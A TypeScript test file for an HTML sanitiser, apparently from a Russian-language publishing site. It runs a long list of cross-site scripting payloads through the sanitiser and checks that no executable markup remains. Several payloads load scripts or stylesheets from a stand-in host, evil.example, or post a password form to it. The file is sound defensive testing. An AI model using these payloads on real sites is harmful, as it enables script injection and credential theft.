import { cleanHtml } from './cleanHtml';

/** Ways to run a script that were found in the wild, in cheat sheets and in parsers. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/api/files/public/a.png" onerror="alert(1)">',
  '<img/src="/api/files/public/a.png"/onload=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="https://evil.example/pixel.png">',
  '<img src="//evil.example/pixel.png">',
  '<img src="/api/files/public/../../auth/logout">',
  '<img src="/api/files/ticket/secret.png">',
  '<img src="/api/files/public/a.png" srcset="https://evil.example/x 2x">',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1);">x</a>',
  '<a href="java<!-- -->script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https://good.example" onclick="alert(1)" style="position:fixed;inset:0" target="_blank">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p class="dialog" id="app" onmouseover="alert(1)">x</p>',
  '<p data-bind="alert(1)" is="x-y" slot="z">x</p>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea><script>alert(1)</script></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<td colspan="1&quot; onclick=&quot;alert(1)">x</td>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<a href="https://good.example/?a=<script>alert(1)</script>">x</a>',
  '<img src="/api/files/public/a.png" alt="&quot; onerror=&quot;alert(1)">',
  '<p>{{constructor.constructor("alert(1)")()}}</p>',
];

const elements = new Set(
  'p h2 h3 h4 ul ol li blockquote pre hr br strong em u s a code img figure figcaption table caption thead tbody tfoot tr th td'.split(
    ' ',
  ),
);
const attributes: Record<string, RegExp> = {
  href: /^(https?:\/\/|mailto:|tel:|\/(?![/\\])|[\w?#][^:]*$)/,
  rel: /^noopener$/,
  src: /^\/api\/files\/public\/[\w-]+(\.[\w-]+)*$/,
  alt: /^/, // Any words: they are no markup.
  width: /^\d+$/,
  height: /^\d+$/,
  loading: /^lazy$/,
  colspan: /^\d+$/,
  rowspan: /^\d+$/,
  scope: /^(row|col|rowgroup|colgroup)$/,
};

/** What a reader’s browser makes of it, which is not always what a sanitiser read. */
const elementsOf = (html: string) => [
  ...new DOMParser()
    .parseFromString(`<body>${html}</body>`, 'text/html')
    .querySelectorAll('body *'),
];

test.each(attacks)('nothing executable is left of %s', (attack) => {
  for (const html of [attack, `<p>до ${attack} после</p>`]) {
    const clean = cleanHtml(html);
    for (const element of elementsOf(clean)) {
      expect(elements).toContain(element.localName);
      for (const { name, value } of element.attributes)
        expect(value).toMatch(attributes[name] ?? /^never$/);
    }
    expect(cleanHtml(clean)).toBe(clean);
  }
});

test('what editors write stays as it was', () => {
  const article = [
    '<h2>Как получить</h2>',
    '<p>Текст с <strong>важным</strong>, <em>особым</em>, <u>чертой</u>, <s>лишним</s> и <code>кодом</code>.<br />Дальше.</p>',
    '<ul><li>раз</li></ul><ol><li>два</li></ol><blockquote><p>слова</p></blockquote><pre>a &lt; b</pre><hr />',
    '<p><a href="https://example.test/?a=1&amp;b=2" rel="noopener">внешняя</a> <a href="/news/kampus" rel="noopener">своя</a> <a href="mailto:help@example.test" rel="noopener">почта</a> <a href="tel:+74951234567" rel="noopener">звонок</a></p>',
    '<figure><img src="/api/files/public/abc-1.webp" alt="Вид" width="800" height="600" loading="lazy" /><figcaption>Вид</figcaption></figure>',
    '<table><caption>Суммы</caption><thead><tr><th scope="col" colspan="2">Месяц</th></tr></thead><tbody><tr><td rowspan="2">Май</td></tr></tbody></table>',
  ].join('');
  expect(cleanHtml(article)).toBe(article);
});

test('what other editors write is brought to our shape', () => {
  expect(cleanHtml('<h1>A</h1><p><b>b</b> <i>i</i> <font color=red>f</font></p>')).toBe(
    '<h2>A</h2><p><strong>b</strong> <em>i</em> f</p>',
  );
  expect(cleanHtml('<a href="http://example.test" target="_blank">x</a>')).toBe(
    '<a href="http://example.test" rel="noopener">x</a>',
  );
});

test('a hundred kilobytes of nested tags are cleaned at once', () => {
  expect(cleanHtml('<blockquote>'.repeat(8_500)).length).toBeLessThan(1_000);
});
